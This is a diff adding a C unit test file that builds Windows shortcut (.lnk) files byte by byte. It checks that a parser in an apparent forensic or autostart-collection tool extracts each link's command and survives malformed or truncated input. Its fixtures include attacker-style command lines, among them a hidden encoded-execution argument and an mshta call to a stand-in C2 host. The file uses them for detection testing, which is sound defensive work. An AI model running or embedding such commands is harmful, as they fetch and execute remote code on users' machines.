@@ -1,0 +1,317 @@
+/* test_winauto.c - Windows shortcuts (tk_lnk_command, collect/winauto.h) built here byte by
+ * byte from the Shell Link layout: a local target in UTF-16 and in the single-byte code page,
+ * a share and the path under it, a target only in the environment-variable block, a relative
+ * path, arguments without a target, an item id list alone; then what is not a link, counted
+ * strings running past the end, every prefix of a valid link and every byte overwritten. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+#include <string.h>
+
+#include "collect/winauto.h"
+#include "core/buf.h"
+#include "core/err.h"
+
+#define LINK_MAX 4096
+
+struct link {
+    unsigned char b[LINK_MAX];
+    size_t n;
+    uint32_t flags;
+};
+
+enum {
+    ID_LIST = 0x1, LINK_INFO = 0x2, NAME = 0x4, RELATIVE = 0x8, WORKDIR = 0x10, ARGS = 0x20,
+    UNICODE_ = 0x80, EXP = 0x200
+};
+
+static void put16(unsigned char *p, uint32_t v)
+{
+    p[0] = (unsigned char)v;
+    p[1] = (unsigned char)(v >> 8);
+}
+
+static void put32(unsigned char *p, uint32_t v)
+{
+    put16(p, v & 0xFFFF);
+    put16(p + 2, v >> 16);
+}
+
+static void add(struct link *l, const void *p, size_t n)
+{
+    assert_true(l->n + n <= LINK_MAX);
+    memcpy(l->b + l->n, p, n);
+    l->n += n;
+}
+
+static void add32(struct link *l, uint32_t v)
+{
+    unsigned char b[4];
+    put32(b, v);
+    add(l, b, 4);
+}
+
+/* ASCII text as UTF-16LE (wide) or single bytes, with a terminating NUL when z. */
+static void add_text(struct link *l, const char *s, bool wide, bool z)
+{
+    for (size_t i = 0; s[i] || z; i++) {
+        unsigned char c[2] = { (unsigned char)s[i], 0 };
+        add(l, c, wide ? 2 : 1);
+        if (!s[i])
+            break;
+    }
+}
+
+static void header(struct link *l, uint32_t flags)
+{
+    static const unsigned char clsid[16] = { 0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
+                                             0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
+    memset(l, 0, sizeof *l);
+    add32(l, 0x4C);
+    add(l, clsid, 16);
+    add32(l, flags);
+    l->n = 0x4C;
+    l->flags = flags;
+}
+
+/* LinkInfo with a local base path (wide adds the Unicode offsets and strings). */
+static void info_local(struct link *l, const char *path, bool wide)
+{
+    size_t start = l->n;
+    uint32_t hsize = wide ? 0x24 : 0x1C;
+    add32(l, 0); /* size, patched below */
+    add32(l, hsize);
+    add32(l, 1);
+    size_t offs = l->n;
+    l->n += hsize - 12;
+    uint32_t vol = (uint32_t)(l->n - start);
+    add32(l, 17);
+    add32(l, 3);
+    add32(l, 0x1234);
+    add32(l, 16);
+    add(l, "", 1);
+    uint32_t local = (uint32_t)(l->n - start);
+    add_text(l, path, false, true);
+    uint32_t suffix = (uint32_t)(l->n - start);
+    add(l, "", 1);
+    put32(l->b + offs, vol);
+    put32(l->b + offs + 4, local);
+    put32(l->b + offs + 8, 0);
+    put32(l->b + offs + 12, suffix);
+    if (wide) {
+        put32(l->b + offs + 16, (uint32_t)(l->n - start));
+        add_text(l, path, true, true);
+        put32(l->b + offs + 20, (uint32_t)(l->n - start));
+        add_text(l, "", true, true);
+    }
+    put32(l->b + start, (uint32_t)(l->n - start));
+}
+
+/* LinkInfo naming a share and the path under it. */
+static void info_share(struct link *l, const char *share, const char *suffix)
+{
+    size_t start = l->n;
+    add32(l, 0);
+    add32(l, 0x1C);
+    add32(l, 2);
+    add32(l, 0);
+    add32(l, 0);
+    add32(l, 0x1C); /* the network link right after the header */
+    size_t suffix_at = l->n;
+    add32(l, 0);
+    add32(l, (uint32_t)(0x14 + strlen(share) + 1));
+    add32(l, 0);
+    add32(l, 0x14);
+    add32(l, 0);
+    add32(l, 0);
+    add_text(l, share, false, true);
+    put32(l->b + suffix_at, (uint32_t)(l->n - start));
+    add_text(l, suffix, false, true);
+    put32(l->b + start, (uint32_t)(l->n - start));
+}
+
+static void counted(struct link *l, const char *s)
+{
+    unsigned char c[2];
+    put16(c, (uint32_t)strlen(s));
+    add(l, c, 2);
+    add_text(l, s, l->flags & UNICODE_, false);
+}
+
+static void env_block(struct link *l, const char *target)
+{
+    size_t start = l->n;
+    add32(l, 8 + 260 + 520);
+    add32(l, 0xA0000001u);
+    add_text(l, target, false, true);
+    l->n = start + 8 + 260;
+    add_text(l, target, true, true);
+    l->n = start + 8 + 260 + 520;
+}
+
+static void end(struct link *l)
+{
+    add32(l, 0);
+}
+
+/* The command the link runs, or "" with *rc set. */
+static const char *command(const struct link *l, int *rc)
+{
+    static struct tk_buf out = TK_BUF_INIT(1 << 18);
+    tk_buf_reset(&out);
+    *rc = tk_lnk_command(l->b, l->n, &out);
+    return tk_buf_cstr(&out);
+}
+
+static void test_local_unicode(void **state)
+{
+    (void)state;
+    struct link l;
+    int rc;
+    header(&l, LINK_INFO | WORKDIR | ARGS | UNICODE_);
+    info_local(&l, "C:\\Program Files\\Vendor\\app.exe", true);
+    counted(&l, "C:\\Windows");
+    counted(&l, "-w hidden -enc SQBFAFgA");
+    end(&l);
+    assert_string_equal(command(&l, &rc), "\"C:\\Program Files\\Vendor\\app.exe\" -w hidden -enc SQBFAFgA");
+    assert_int_equal(rc, 0);
+    assert_string_equal(tk_autostart_trait(command(&l, &rc), false), "encoded-exec");
+}
+
+static void test_local_ansi(void **state)
+{
+    (void)state;
+    struct link l;
+    int rc;
+    header(&l, ID_LIST | LINK_INFO | NAME | ARGS);
+    unsigned char ids[2 + 22] = { 22, 0, 20, 0 }; /* one opaque item and the terminator */
+    add(&l, ids, sizeof ids);
+    info_local(&l, "C:\\Users\\Public\\r\xe9sum\xe9.exe", false);
+    counted(&l, "a comment");
+    counted(&l, "/quiet");
+    end(&l);
+    assert_string_equal(command(&l, &rc), "C:\\Users\\Public\\r?sum?.exe /quiet");
+    assert_int_equal(rc, 0);
+    assert_string_equal(tk_autostart_trait(command(&l, &rc), false), "tmp-path");
+}
+
+static void test_share(void **state)
+{
+    (void)state;
+    struct link l;
+    int rc;
+    header(&l, LINK_INFO | UNICODE_);
+    info_share(&l, "\\\\fileserver\\tools", "sync\\run.cmd");
+    end(&l);
+    assert_string_equal(command(&l, &rc), "\\\\fileserver\\tools\\sync\\run.cmd");
+    assert_int_equal(rc, 0);
+}
+
+static void test_env_relative_args(void **state)
+{
+    (void)state;
+    struct link l;
+    int rc;
+    /* only the environment-variable block names the target */
+    header(&l, EXP | UNICODE_);
+    env_block(&l, "%TEMP%\\svc.exe");
+    end(&l);
+    assert_string_equal(command(&l, &rc), "%TEMP%\\svc.exe");
+    assert_int_equal(rc, 0);
+    /* LinkInfo wins over the block; the relative path is the last resort */
+    header(&l, LINK_INFO | RELATIVE | EXP | UNICODE_);
+    info_local(&l, "C:\\Windows\\notepad.exe", true);
+    counted(&l, "..\\..\\x.exe");
+    env_block(&l, "%windir%\\notepad.exe");
+    end(&l);
+    assert_string_equal(command(&l, &rc), "C:\\Windows\\notepad.exe");
+    header(&l, RELATIVE | UNICODE_);
+    counted(&l, ".\\tool.exe");
+    end(&l);
+    assert_string_equal(command(&l, &rc), ".\\tool.exe");
+    /* arguments without a target are still judged */
+    header(&l, ARGS);
+    counted(&l, "mshta http://c2.example/a.hta");
+    assert_string_equal(command(&l, &rc), "mshta http://c2.example/a.hta");
+    assert_int_equal(rc, 0);
+    /* an item id list alone names nothing this reader resolves */
+    header(&l, ID_LIST);
+    unsigned char ids[4] = { 2, 0, 0, 0 };
+    add(&l, ids, sizeof ids);
+    command(&l, &rc);
+    assert_int_equal(rc, TK_ENOENT);
+}
+
+static void test_hostile(void **state)
+{
+    (void)state;
+    struct link l;
+    int rc;
+    /* not a shell link */
+    memset(&l, 0, sizeof l);
+    add(&l, "L\0\0\0", 4);
+    command(&l, &rc);
+    assert_int_equal(rc, TK_EPARSE);
+    header(&l, 0);
+    l.b[4] ^= 1; /* another CLSID */
+    command(&l, &rc);
+    assert_int_equal(rc, TK_EPARSE);
+    /* a counted string longer than the file */
+    header(&l, ARGS | UNICODE_);
+    unsigned char c[2] = { 0xff, 0xff };
+    add(&l, c, 2);
+    add_text(&l, "abc", true, false);
+    command(&l, &rc);
+    assert_int_equal(rc, TK_EPARSE);
+    /* LinkInfo whose size runs past the end, and offsets aimed outside it */
+    header(&l, LINK_INFO | UNICODE_);
+    info_local(&l, "C:\\x.exe", true);
+    put32(l.b + 0x4C, 0x7fffffff);
+    command(&l, &rc);
+    assert_int_equal(rc, TK_EPARSE);
+    header(&l, LINK_INFO | UNICODE_);
+    info_local(&l, "C:\\x.exe", true);
+    for (size_t off = 12; off < 0x24; off += 4)
+        put32(l.b + 0x4C + off, 0xfffffff0u);
+    command(&l, &rc);
+    assert_true(rc == 0 || rc == TK_ENOENT);
+    /* every prefix and every byte overwritten of a complete link: an answer, never a
+     * read past the bytes given (ASan watches) */
+    struct link full;
+    header(&full, ID_LIST | LINK_INFO | NAME | WORKDIR | ARGS | UNICODE_ | EXP);
+    unsigned char ids[2 + 22] = { 22, 0, 20, 0 };
+    add(&full, ids, sizeof ids);
+    info_local(&full, "C:\\Program Files\\Vendor\\app.exe", true);
+    counted(&full, "name");
+    counted(&full, "C:\\");
+    counted(&full, "--flag");
+    env_block(&full, "%ProgramFiles%\\Vendor\\app.exe");
+    end(&full);
+    for (size_t n = 0; n <= full.n; n++) {
+        struct link p = full;
+        p.n = n;
+        command(&p, &rc);
+        assert_true(rc == 0 || rc == TK_EPARSE || rc == TK_ENOENT);
+    }
+    for (size_t i = 0; i < full.n; i++)
+        for (int v = 0; v < 3; v++) {
+            struct link p = full;
+            p.b[i] = v == 0 ? 0x00 : v == 1 ? 0xff : (unsigned char)(p.b[i] ^ 0x80);
+            command(&p, &rc);
+            assert_true(rc == 0 || rc == TK_EPARSE || rc == TK_ENOENT);
+        }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_local_unicode),
+        cmocka_unit_test(test_local_ansi),
+        cmocka_unit_test(test_share),
+        cmocka_unit_test(test_env_relative_args),
+        cmocka_unit_test(test_hostile),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
